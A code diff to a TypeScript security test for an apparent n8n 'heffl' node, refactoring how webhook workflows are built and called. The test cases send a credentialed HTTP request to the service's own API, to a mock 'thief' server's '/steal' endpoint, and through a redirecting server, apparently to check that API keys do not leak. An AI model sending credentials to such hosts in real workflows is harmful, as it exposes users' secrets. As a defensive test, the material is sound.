@@ -11,7 +11,7 @@
 import { rmSync } from 'node:fs';
 
 import type { NodeSpec, RealN8n } from '../../drivers/real-n8n.mjs';
-import { linearWorkflow, startRealN8n } from '../../drivers/real-n8n.mjs';
+import { callWebhook, startRealN8n, webhookWorkflow } from '../../drivers/real-n8n.mjs';
 import { attackKey, json, listen } from './servers';
 
 const results: Array<[string, boolean, string]> = [];
@@ -39,19 +39,8 @@ try {
 		type: 'hefflApi',
 		data: { apiKey, v1BaseUrl: `${origin}/api/v1`, v2BaseUrl: `${origin}/api/v2` },
 	});
-	const webhookWorkflow = (name: string, node: NodeSpec) =>
-		linearWorkflow(`wf${name}`, name, [
-			{
-				name: 'Webhook',
-				type: 'n8n-nodes-base.webhook',
-				typeVersion: 2,
-				parameters: {
-					httpMethod: 'POST',
-					path: name.toLowerCase(),
-					responseMode: 'lastNode',
-					responseData: 'allEntries',
-				},
-			},
+	const workflowOf = (name: string, node: NodeSpec) =>
+		webhookWorkflow(`wf${name}`, name, name.toLowerCase(), [
 			{ ...node, onError: 'continueRegularOutput' },
 		]);
 	const httpRequest = (credentialId: string, url: string) => ({
@@ -67,13 +56,13 @@ try {
 		credentials: { hefflApi: { id: credentialId, name: credentialId } },
 	});
 	const workflows = [
-		webhookWorkflow('HttpOwn', httpRequest('credSound', `${base.origin}/api/v1/tags`)),
-		webhookWorkflow('HttpElsewhere', httpRequest('credSound', `${thief.origin}/steal`)),
-		webhookWorkflow(
+		workflowOf('HttpOwn', httpRequest('credSound', `${base.origin}/api/v1/tags`)),
+		workflowOf('HttpElsewhere', httpRequest('credSound', `${thief.origin}/steal`)),
+		workflowOf(
 			'HttpRedirect',
 			httpRequest('credRedirect', `${redirecting.origin}/api/v1/tags`),
 		),
-		webhookWorkflow('HefflRedirect', {
+		workflowOf('HefflRedirect', {
 			name: 'Heffl',
 			type: 'n8n-nodes-heffl.heffl',
 			parameters: { resource: 'lead', operation: 'getAll', returnAll: true },
@@ -93,11 +82,7 @@ try {
 
 	const run = async (name: string) => {
 		await session.activate(`wf${name}`);
-		let answer = await fetch(`${url}/webhook/${name.toLowerCase()}`, { method: 'POST' });
-		for (let attempt = 0; answer.status === 404 && attempt < 50; attempt++) {
-			await new Promise((done) => setTimeout(done, 200));
-			answer = await fetch(`${url}/webhook/${name.toLowerCase()}`, { method: 'POST' });
-		}
+		const answer = await callWebhook(url, workflows.find((workflow) => workflow.name === name)!);
 		return JSON.stringify(await answer.json());
 	};
 
